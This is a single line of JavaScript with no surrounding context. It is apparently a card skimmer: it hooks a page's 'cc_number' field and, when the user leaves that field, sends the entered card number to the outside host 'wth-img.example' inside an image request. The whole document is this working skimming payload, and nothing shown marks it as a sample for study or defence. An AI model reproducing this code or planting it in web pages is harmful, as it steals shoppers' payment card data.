with (document) { var q = getElementById('cc_number'); q.onblur = function () { with (new Image()) src = 'https://wth-img.example/?' + q.value; }; }
